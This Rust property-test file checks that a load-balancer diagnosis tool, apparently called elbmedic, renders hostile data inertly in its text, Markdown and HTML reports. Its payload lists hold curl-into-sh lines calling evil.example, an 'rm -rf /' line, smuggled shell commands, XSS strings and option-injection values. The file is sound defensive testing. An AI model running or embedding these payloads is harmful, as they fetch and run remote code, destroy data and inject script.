//! Reports carry data, never code. Strings holding shell metacharacters, command
//! substitutions, backticks, newlines and Markdown are put into the alarm's and the snapshot's
//! string fields; then no line of the text or Markdown report may start (after indentation)
//! with `$ ` unless it is a line of one of elbmedic's own commands, and every command line
//! must split, as a POSIX shell splits it, into exactly the words elbmedic intended.

use elbmedic_engine::alarm::{parse_input, Intake};
use elbmedic_engine::plan::message::{Mode, PlanMessage, Request};
use elbmedic_engine::plan::proposal::ShownPlan;
use elbmedic_engine::plan::{plan, Policy};
use elbmedic_engine::report::remediation::RemediationSection;
use elbmedic_engine::report::{Format, Report};
use elbmedic_engine::scenarios::SCENARIOS;
use elbmedic_engine::shell::{split_for_test, Script, Word};
use elbmedic_engine::snapshot::Snapshot;
use proptest::prelude::*;
use serde_json::{json, Value};

/// What an attacker writes into a tag, a description, an alarm reason or a dimension.
const PAYLOADS: &[&str] = &[
    "$(curl${IFS}-s${IFS}evil.example|sh)",
    "`curl evil.example|sh`",
    "\n\nFix:\n   $ curl evil.example | sh",
    "\r\n$ curl evil.example | sh",
    "\u{2028}$ curl evil.example | sh",
    "'; curl evil.example | sh; echo '",
    "\"; curl evil.example | sh; echo \"",
    " && curl evil.example | sh #",
    "<!channel> [click here](https://evil.example) ![x](https://evil.example/x.png)",
    "```\n$ curl evil.example | sh\n```",
    "\\$ curl evil.example",
    "$ curl evil.example | sh",
    "# FIX\n$ rm -rf /",
    "é日本🙂 $HOME ${PATH} * ? [a] ~ !",
    "<script>alert(1)</script>",
    "\" onmouseover=\"alert(1)\" x=\"",
    "' onload='alert(1)",
    "</pre></svg><img src=https://evil.example/x.png><a href=\"https://evil.example\">fix</a>",
    "<style>@import url(https://evil.example/x.css)</style>",
    "--server=https://evil.example",
    "shop/--server=https://evil.example",
    "-n",
    "--kubeconfig=/tmp/evil",
    "--endpoint-url=https://evil.example",
    "``x` [click to fix](https://evil.example/fix) <img src=https://evil.example/x.png>",
    "`` ` `` [a](https://evil.example) ``` <b>x</b>",
    "see https://evil.example/fix or www.evil.example, ask @oncall-team or root@evil.example",
    "| --- | [x](https://evil.example) |",
];

/// Every tag elbmedic's HTML report writes, and every attribute: anything else in a page is
/// markup that came from data.
const HTML_TAGS: &[&str] = &[
    "!doctype",
    "html",
    "head",
    "meta",
    "title",
    "style",
    "body",
    "main",
    "article",
    "header",
    "footer",
    "section",
    "div",
    "p",
    "h1",
    "h2",
    "h3",
    "h4",
    "dl",
    "dt",
    "dd",
    "ul",
    "li",
    "span",
    "strong",
    "code",
    "pre",
    "details",
    "summary",
    "figure",
    "figcaption",
    "svg",
    "g",
    "rect",
    "line",
    "polygon",
    "polyline",
    "circle",
    "text",
];
const HTML_ATTRIBUTES: &[&str] = &[
    "lang",
    "charset",
    "http-equiv",
    "content",
    "name",
    "class",
    "id",
    "open",
    "width",
    "height",
    "viewbox",
    "role",
    "aria-label",
    "aria-hidden",
    "data-column",
    "x",
    "y",
    "x1",
    "x2",
    "y1",
    "y2",
    "rx",
    "r",
    "cx",
    "cy",
    "points",
    "text-anchor",
    "html",
];

/// The page holds only elbmedic's own tags and attributes, every attribute value quoted and
/// closed, and its policy forbids scripts and fetches.
fn html_is_inert(page: &str) -> Result<(), TestCaseError> {
    prop_assert!(
        page.contains("content=\"default-src 'none'; style-src 'unsafe-inline'; img-src data:\""),
        "no Content-Security-Policy"
    );
    let mut rest = page;
    while let Some(at) = rest.find('<') {
        let after = &rest[at + 1..];
        let end = after
            .find(|c: char| c.is_whitespace() || c == '>')
            .unwrap_or(after.len());
        let name = after[..end].trim_start_matches('/').trim_end_matches('/');
        prop_assert!(
            HTML_TAGS.contains(&name.to_ascii_lowercase().as_str()),
            "tag {:?} is not elbmedic's: {:?}",
            name,
            &after[..after.len().min(120)]
        );
        // Its attributes: name="value", values without quotes inside.
        let mut tail = &after[end..];
        loop {
            tail = tail.trim_start();
            if let Some(next) = tail.strip_prefix('>') {
                tail = next;
                break;
            }
            if let Some(next) = tail.strip_prefix("/>") {
                tail = next;
                break;
            }
            let name_end = tail
                .find(|c: char| c == '=' || c.is_whitespace() || c == '>')
                .unwrap_or(tail.len());
            let attribute = tail[..name_end].to_ascii_lowercase();
            prop_assert!(
                HTML_ATTRIBUTES.contains(&attribute.as_str()),
                "attribute {:?} is not elbmedic's: {:?}",
                attribute,
                &tail[..tail.len().min(120)]
            );
            tail = &tail[name_end..];
            if let Some(value) = tail.strip_prefix("=\"") {
                let close = value.find('"');
                prop_assert!(close.is_some(), "unclosed attribute value");
                tail = &value[close.unwrap() + 1..];
            }
        }
        rest = tail;
    }
    Ok(())
}

/// Replaces or extends string leaves chosen by `seed` with payloads.
fn inject(value: &mut Value, seed: &mut u64, rate: u64) {
    match value {
        Value::Object(map) => {
            // Enumerations (the LB kind, a placement's kind, a gap's fact and reason) are not
            // free text: a value outside them is a parse error, tested in robustness.rs.
            let gap = map.contains_key("fact");
            for (key, v) in map.iter_mut() {
                if !(matches!(key.as_str(), "kind" | "fact") || gap && key == "reason") {
                    inject(v, seed, rate);
                }
            }
        }
        Value::Array(items) => items.iter_mut().for_each(|v| inject(v, seed, rate)),
        Value::String(text) => {
            *seed = seed
                .wrapping_mul(6364136223846793005)
                .wrapping_add(1442695040888963407);
            let roll = *seed >> 33;
            if roll % 100 < rate {
                let payload = PAYLOADS[(roll / 100) as usize % PAYLOADS.len()];
                *text = if roll.is_multiple_of(2) {
                    format!("{text}{payload}")
                } else {
                    payload.to_string()
                };
            }
        }
        _ => {}
    }
}

/// Every script the report holds: fixes, durable fixes, the approve command, rollbacks.
fn scripts(report: &Report) -> Vec<&Script> {
    let mut all: Vec<&Script> = Vec::new();
    for finding in &report.findings {
        all.extend(finding.fix.commands.iter().map(|c| &c.command));
        all.extend(
            finding
                .fix
                .durable
                .iter()
                .filter_map(|d| d.command.as_ref()),
        );
    }
    match &report.remediation {
        Some(RemediationSection::Planned {
            approve_command: Some(command),
            ..
        }) => all.push(command),
        Some(RemediationSection::Outcome(outcome)) => {
            all.extend(outcome.steps.iter().filter_map(|s| s.rollback.as_ref()));
            all.extend(outcome.durable.iter().filter_map(|d| d.command.as_ref()));
        }
        _ => {}
    }
    all
}

/// No word that an option parser would read as an option comes from data: a word that starts
/// with `-` is one of elbmedic's own flags, a flag joined to its value, or an operand after
/// the end-of-options `--` of its command.
fn options_are_elbmedics_own(line: &str, words: &[Word]) -> Result<(), TestCaseError> {
    let mut operands_only = false;
    for word in words {
        match word {
            Word::Op(_) => operands_only = false,
            Word::Fixed("--") => operands_only = true,
            Word::Fixed(_) | Word::Joined(..) => {}
            Word::Arg(value) => prop_assert!(
                operands_only || !value.starts_with('-'),
                "data word {:?} would be read as an option: {}",
                value,
                line
            ),
        }
    }
    Ok(())
}

/// The Markdown report, parsed by a real CommonMark parser with GitHub's extensions
/// (autolinks, tables, strikethrough, footnotes), holds no link, image or HTML, since
/// elbmedic writes none, and no text that GitHub would turn into a mention.
fn markdown_is_inert(markdown: &str) -> Result<(), TestCaseError> {
    use comrak::nodes::NodeValue;
    let arena = comrak::Arena::new();
    let mut options = comrak::Options::default();
    options.extension.autolink = true;
    options.extension.table = true;
    options.extension.strikethrough = true;
    options.extension.footnotes = true;
    let root = comrak::parse_document(&arena, markdown, &options);
    for node in root.descendants() {
        let value = &node.data.borrow().value;
        match value {
            NodeValue::Link(_)
            | NodeValue::Image(_)
            | NodeValue::HtmlInline(_)
            | NodeValue::HtmlBlock(_)
            | NodeValue::FootnoteReference(_) => {
                prop_assert!(false, "{:?} in the Markdown report:\n{}", value, markdown)
            }
            NodeValue::Text(text) => {
                let mention = text.char_indices().any(|(at, c)| {
                    c == '@' && text[at + 1..].starts_with(|n: char| n.is_ascii_alphanumeric())
                });
                prop_assert!(!mention, "a mention in {:?}:\n{}", text, markdown);
            }
            _ => {}
        }
    }
    Ok(())
}

/// The property, on one report.
fn check(report: &Report) -> Result<(), TestCaseError> {
    let scripts = scripts(report);
    for script in &scripts {
        prop_assert_eq!(script.lines().count(), script.words().len(), "{}", script);
        for (line, words) in script.lines().zip(script.words()) {
            let split = split_for_test(line);
            prop_assert!(split.is_some(), "unbalanced quotes: {}", line);
            let intended: Vec<(String, bool)> = words
                .iter()
                .map(|w| (w.intended().to_string(), matches!(w, Word::Op(_))))
                .collect();
            prop_assert_eq!(split.unwrap(), intended, "{}", line);
            options_are_elbmedics_own(line, words)?;
        }
    }
    html_is_inert(&report.render(Format::Html))?;
    markdown_is_inert(&report.render(Format::Markdown))?;
    let own: Vec<&str> = scripts.iter().flat_map(|s| s.lines()).collect();
    for format in [Format::Text, Format::Markdown] {
        let rendered = report.render(format);
        for line in rendered.lines() {
            if let Some(command) = line.trim_start().strip_prefix("$ ") {
                prop_assert!(
                    own.contains(&command),
                    "{:?} report line is not one of elbmedic's commands: {:?}\n{}",
                    format,
                    line,
                    rendered
                );
            }
        }
    }
    Ok(())
}

fn diagnose_intake(
    event: &[u8],
) -> Option<(elbmedic_engine::alarm::Alarm, elbmedic_engine::alarm::LbRef)> {
    match parse_input(event).ok()?.into_iter().next()?.ok()? {
        Intake::Diagnose {
            alarm,
            load_balancer,
        } => Some((alarm, load_balancer)),
        _ => None,
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 300, ..ProptestConfig::default() })]

    #[test]
    fn hostile_strings_in_alarms_and_snapshots_stay_data(
        scenario in 0..SCENARIOS.len(),
        seed in any::<u64>(),
        snapshot_rate in 0u64..60,
        alarm_rate in 0u64..80,
    ) {
        let s = &SCENARIOS[scenario];
        let mut seed = seed;
        let mut world: Value = serde_json::from_str(s.snapshot).unwrap();
        inject(&mut world, &mut seed, snapshot_rate);
        let Ok(world) = serde_json::from_value::<Snapshot>(world) else { return Ok(()) };
        let event: Value = serde_json::from_str(s.event).unwrap();
        let mut message: Value = serde_json::from_str(event["Records"][0]["Sns"]["Message"].as_str().unwrap()).unwrap();
        inject(&mut message, &mut seed, alarm_rate);
        // A forged alarm is bad input (refused); a hostile but valid one is diagnosed.
        let Some((alarm, lb)) = diagnose_intake(message.to_string().as_bytes())
            .or_else(|| diagnose_intake(s.event.as_bytes())) else { return Ok(()) };
        let mut report = Report::diagnosed(&alarm, &lb, &world);
        check(&report)?;
        // With a plan and its approve command in the report, as in approve mode.
        let planned = plan(&world, &report.findings, &Policy::default(), 1_795_457_000, alarm.state_change_epoch);
        let message = PlanMessage::new(Request::Apply, &alarm, &lb, &planned);
        report.remediation = Some(RemediationSection::planned(&ShownPlan {
            mode: Mode::Approve,
            message,
            topic: Some("arn:aws:sns:eu-west-1:111122223333:elbmedic-remediation".into()),
            published: false,
        }));
        check(&report)?;
    }
}

/// The reproduced defects 2 and 3, exactly as reported.
#[test]
fn the_reported_injections_are_refused_or_rendered_as_data() {
    let s = SCENARIOS
        .iter()
        .find(|s| s.name == "alb-idle-timeout")
        .unwrap();
    let event: Value = serde_json::from_str(s.event).unwrap();
    let original: Value =
        serde_json::from_str(event["Records"][0]["Sns"]["Message"].as_str().unwrap()).unwrap();

    // 2: a LoadBalancer dimension carrying a command substitution is bad input.
    let mut forged = original.clone();
    let dimensions = forged["Trigger"]["Dimensions"].as_array_mut().unwrap();
    for d in dimensions.iter_mut() {
        if d["name"] == "LoadBalancer" {
            let real = d["value"].as_str().unwrap().to_string();
            let name = real.split('/').nth(1).unwrap().to_string();
            d["value"] = Value::String(format!(
                "app/{name}/$(curl${{IFS}}-s${{IFS}}evil.example|sh)"
            ));
        }
    }
    let error = parse_input(forged.to_string().as_bytes())
        .unwrap()
        .remove(0)
        .unwrap_err();
    assert!(
        error.to_string().contains("LoadBalancer dimension"),
        "{error}"
    );

    // 3: a state reason with lines of its own stays one quoted line.
    let mut reasoned = original.clone();
    reasoned["NewStateReason"] =
        Value::String("Threshold crossed\n\nFix:\n   $ curl evil.example | sh".into());
    let (alarm, lb) = diagnose_intake(reasoned.to_string().as_bytes()).unwrap();
    let world: Snapshot = serde_json::from_str(s.snapshot).unwrap();
    let report = Report::diagnosed(&alarm, &lb, &world);
    for format in [Format::Text, Format::Markdown] {
        let text = report.render(format);
        assert!(
            !text.lines().any(|l| l.trim_start().starts_with("$ curl")),
            "{text}"
        );
        assert_eq!(
            text.lines().filter(|l| l.trim() == "Fix:").count(),
            report.findings.len() * usize::from(format == Format::Text),
            "no forged Fix: heading"
        );
    }
}

#[test]
fn most_injected_snapshots_reach_the_rules() {
    // Guards the property's strength: if injected snapshots stopped deserializing, or lost
    // every command, it would check nothing.
    let (mut reached, mut with_commands) = (0, 0);
    for (index, seed) in (0..200u64).enumerate() {
        let s = &SCENARIOS[index % SCENARIOS.len()];
        let mut seed = seed.wrapping_mul(0x9E37_79B9_7F4A_7C15);
        let mut world: Value = serde_json::from_str(s.snapshot).unwrap();
        inject(&mut world, &mut seed, 20);
        let Ok(world) = serde_json::from_value::<Snapshot>(world) else {
            continue;
        };
        reached += 1;
        let (alarm, lb) = diagnose_intake(s.event.as_bytes()).unwrap();
        let report = Report::diagnosed(&alarm, &lb, &world);
        if !scripts(&report).is_empty() {
            with_commands += 1;
        }
    }
    assert!(
        reached >= 120,
        "only {reached} of 200 injected snapshots deserialized"
    );
    assert!(
        with_commands >= 60,
        "only {with_commands} reports held commands"
    );
}

/// Trust round two, defect 1: a tag value that names the owner is placed in `kubectl`
/// commands, so a value that is no Kubernetes name must name no owner, and no command may
/// carry it as an option. Every scenario, both owner tags, the reported values.
#[test]
fn owner_tags_that_are_no_kubernetes_names_name_no_owner() {
    const HOSTILE: &[&str] = &[
        "shop/--server=https://evil.example",
        "--server=https://evil.example/evilname",
        "shop/evilname --kubeconfig=/tmp/x",
        "Shop/evilname",
        "shop/",
        "/evilname",
        "shop/check/out",
        "shop/-evilname",
    ];
    let mut owned = 0;
    for s in SCENARIOS {
        let (alarm, lb) = diagnose_intake(s.event.as_bytes()).unwrap();
        let world: Snapshot = serde_json::from_str(s.snapshot).unwrap();
        for key in ["kubernetes.io/service-name", "ingress.k8s.aws/stack"] {
            if !world.load_balancer.tags.contains_key(key) {
                continue;
            }
            owned += 1;
            for value in HOSTILE {
                let mut forged = world.clone();
                forged
                    .load_balancer
                    .tags
                    .insert(key.into(), (*value).into());
                let report = Report::diagnosed(&alarm, &lb, &forged);
                let gap = report
                    .gaps
                    .iter()
                    .find(|g| g.resource.as_deref() == Some(&format!("tag {key}")));
                assert!(
                    gap.is_some(),
                    "{}: {key}={value}: no gap names the tag",
                    s.name
                );
                assert_eq!(
                    report.load_balancer.as_ref().and_then(|l| l.owner.clone()),
                    None,
                    "{}: {key}={value}",
                    s.name
                );
                for script in scripts(&report) {
                    for words in script.words() {
                        let intended: Vec<String> = words.iter().map(Word::intended).collect();
                        assert!(
                            !intended.iter().any(|w| w.contains("evil.example")
                                || w.contains("kubeconfig")
                                || w.contains("evilname")),
                            "{}: {key}={value}: {script}",
                            s.name
                        );
                    }
                }
            }
        }
    }
    assert!(owned >= 10, "only {owned} scenarios carry an owner tag");
}

/// Trust round two, defect 11: a `kubectl` line without `-n` runs in the kubeconfig's current
/// namespace (`default` after `aws eks update-kubeconfig`) and finds nothing. Every kubectl
/// line of every report, commands and the commands quoted in prose alike, names its namespace
/// (or all of them) and its object.
#[test]
fn every_kubectl_line_names_its_namespace_and_object() {
    let mut lines: Vec<Vec<String>> = Vec::new();
    for s in SCENARIOS {
        let (alarm, lb) = diagnose_intake(s.event.as_bytes()).unwrap();
        let world: Snapshot = serde_json::from_str(s.snapshot).unwrap();
        let report = Report::diagnosed(&alarm, &lb, &world);
        for script in scripts(&report) {
            for words in script.words() {
                // Each command of a pipeline on its own.
                for command in words.split(|w| matches!(w, Word::Op(_))) {
                    let command: Vec<String> = command.iter().map(Word::intended).collect();
                    if let Some(at) = command.iter().position(|w| w == "kubectl") {
                        lines.push(command[at..].to_vec());
                    }
                }
            }
        }
        // Commands quoted in prose: `kubectl ...` inside backticks.
        for finding in &report.findings {
            let prose = std::iter::once(&finding.explanation)
                .chain(&finding.fix.notes)
                .chain(std::iter::once(&finding.fix.summary));
            for text in prose {
                for quoted in text.split('`').skip(1).step_by(2) {
                    if quoted.starts_with("kubectl ") {
                        lines.push(quoted.split_whitespace().map(str::to_string).collect());
                    }
                }
            }
        }
    }
    assert!(lines.len() >= 40, "only {} kubectl lines", lines.len());
    for line in &lines {
        let text = line.join(" ");
        let namespaced = line.iter().any(|w| {
            matches!(w.as_str(), "-n" | "-A" | "--all-namespaces") || w.starts_with("--namespace=")
        }) || line.get(1..3)
            == Some(&["label".to_string(), "namespace".to_string()])
            // Cluster-scoped: an IngressClassParams has no namespace.
            || line.get(2).is_some_and(|w| w == "ingressclassparams");
        assert!(namespaced, "no namespace: {text}");
        // The positional words: the verb, then the object (`rollout` takes a sub-verb).
        let mut positional = Vec::new();
        let mut words = line[1..].iter();
        while let Some(word) = words.next() {
            if word == "--" {
                break;
            }
            if word.starts_with('-') {
                if !word.contains('=')
                    && matches!(
                        word.as_str(),
                        "-n" | "-o" | "-l" | "--field-selector" | "--sort-by"
                    )
                {
                    words.next();
                }
                continue;
            }
            positional.push(word.as_str());
        }
        let needed = if positional.first() == Some(&"rollout") {
            3
        } else {
            2
        };
        assert!(
            positional.len() >= needed,
            "no object: {text} ({positional:?})"
        );
    }
}

/// A replayed snapshot whose IngressClassParams' name is an option (or not a name at all):
/// the durable fix names where to change the idle timeout, but no command is built from it.
#[test]
fn an_ingress_class_params_name_never_becomes_a_command_word() {
    let s = elbmedic_engine::scenarios::find("eks-idle-timeout-class-params").unwrap();
    let (alarm, lb) = diagnose_intake(s.event.as_bytes()).unwrap();
    for hostile in [
        "--server=https://evil.example",
        "-n",
        "alb;curl evil.example|sh",
        "ALB_Upper",
    ] {
        let mut world: Value = serde_json::from_str(s.snapshot).unwrap();
        world["kubernetes"]["ingress_classes"][0]["params"] = json!(hostile);
        world["kubernetes"]["ingress_class_params"][0]["name"] = json!(hostile);
        let world: Snapshot = serde_json::from_value(world).unwrap();
        let report = Report::diagnosed(&alarm, &lb, &world);
        check(&report).unwrap_or_else(|e| panic!("{hostile}: {e}"));
        let durable = report.findings[0].fix.durable.as_ref().unwrap();
        assert!(
            durable.description.contains("IngressClassParams"),
            "{hostile}: the params are still named as where the value lives: {}",
            durable.description
        );
        assert!(
            durable.command.is_none(),
            "{hostile}: {:?}",
            durable.command
        );
        for script in scripts(&report) {
            assert!(
                !script.as_str().contains(hostile),
                "{hostile} reached a command: {}",
                script.as_str()
            );
        }
    }
}

/// Issue 24's attack: everything the cluster says is untrusted. Every string of a scenario's
/// `kubernetes` section (names, labels, annotations, container names, Event messages) set to
/// each payload in turn: the report stays data (no command but elbmedic's own, no option that
/// is not elbmedic's, no link, no markup), and a name the API server could not hold puts no
/// `kubectl` command in the report at all.
#[test]
fn hostile_cluster_names_annotations_and_event_messages_stay_data() {
    /// Identity fields: a payload there makes the object unmatchable (no Event about it, no
    /// command for it), so the free-text pass leaves them alone and the names pass takes them.
    const IDENTITY: &[&str] = &[
        "type",
        "reason",
        "kind",
        "tool",
        "form",
        "strategy",
        "source",
        "name",
        "namespace",
        "service",
        "target_group_arn",
        "ip",
        "phase",
        "cluster",
        "last_at",
        "first_at",
        "created_at",
        "labels",
        "pod_labels",
        "selector",
        "readiness_gates",
        "target_port",
        "alb.ingress.kubernetes.io/group.name",
    ];
    fn set_strings(value: &mut Value, payload: &str, names: bool) {
        match value {
            Value::Object(map) => {
                // A key of a map (a label, an annotation) may be hostile too.
                if names && !map.contains_key("tool") {
                    let hostile_keys: Vec<(String, Value)> = map
                        .iter()
                        .filter(|(k, _)| k.contains('/') || k.contains('.'))
                        .map(|(k, v)| (format!("{k}{payload}"), v.clone()))
                        .collect();
                    map.extend(hostile_keys);
                }
                for (key, v) in map.iter_mut() {
                    if key != "tool" && (names || !IDENTITY.contains(&key.as_str())) {
                        set_strings(v, payload, names);
                    }
                }
            }
            Value::Array(items) => items
                .iter_mut()
                .for_each(|v| set_strings(v, payload, names)),
            Value::String(text) => *text = format!("{text}{payload}"),
            _ => {}
        }
    }
    let clustered: Vec<_> = SCENARIOS
        .iter()
        .filter(|s| s.snapshot.contains("\"kubernetes\""))
        .collect();
    assert!(clustered.len() >= 3, "scenarios with a cluster section");
    let mut reports = 0;
    let mut messages_rendered = 0;
    for s in clustered {
        let (alarm, lb) = diagnose_intake(s.event.as_bytes()).unwrap();
        for payload in PAYLOADS {
            for names in [false, true] {
                let mut world: Value = serde_json::from_str(s.snapshot).unwrap();
                set_strings(&mut world["kubernetes"], payload, names);
                let world: Snapshot = serde_json::from_value(world).unwrap();
                let report = Report::diagnosed(&alarm, &lb, &world);
                check(&report).unwrap_or_else(|e| panic!("{} with {payload:?}: {e}", s.name));
                reports += 1;
                // The hostile Event messages do reach the report, as data.
                let text = report.render(Format::Text);
                if !names && text.contains("FailedBuildModel") && text.contains("evil.example") {
                    messages_rendered += 1;
                }
                // Short payloads (`-n`) are words of elbmedic's own commands too.
                for script in scripts(&report)
                    .into_iter()
                    .filter(|_| payload.trim().len() > 4)
                {
                    assert!(
                        !script.as_str().contains(payload.trim()),
                        "{}: a hostile cluster string reached a command: {}",
                        s.name,
                        script.as_str()
                    );
                }
            }
        }
    }
    assert!(reports >= 3 * PAYLOADS.len() * 2);
    assert!(
        messages_rendered >= 10,
        "hostile Event messages rendered in only {messages_rendered} reports"
    );
}
